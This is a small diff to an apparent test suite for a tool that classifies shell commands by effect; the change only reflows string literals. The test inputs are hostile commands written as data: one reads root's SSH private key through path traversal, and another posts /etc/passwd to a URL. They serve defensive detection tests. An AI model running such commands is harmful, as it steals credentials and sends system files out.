@@ -138,12 +138,14 @@ def test_an_unmodelled_program_is_judged_by_what_it_can_reach() -> None:
 
 def test_code_literals_are_reach_and_traversal_climbs_to_the_root() -> None:
     f = facts(
-        "python3 -c \"import os;print(open(os.path.join('t','../../../../root/.ssh/id_rsa')).read())\""
+        "python3 -c \"import os;"
+        "print(open(os.path.join('t','../../../../root/.ssh/id_rsa')).read())\""
     )
     assert "reads:traversal" in tags(f)
     assert "reads:foreign-credential" in tags(f)
     up = facts(
-        "python3 - <<'EOF'\nimport requests\ndef s(u, p):\n    return requests.post(u, data=open(p))\n"
+        "python3 - <<'EOF'\nimport requests\n"
+        "def s(u, p):\n    return requests.post(u, data=open(p))\n"
         "s('http://127.0.0.1:9/x', '/etc/passwd')\nEOF"
     )
     assert effectmod.data_provenance(up) == "system-file"
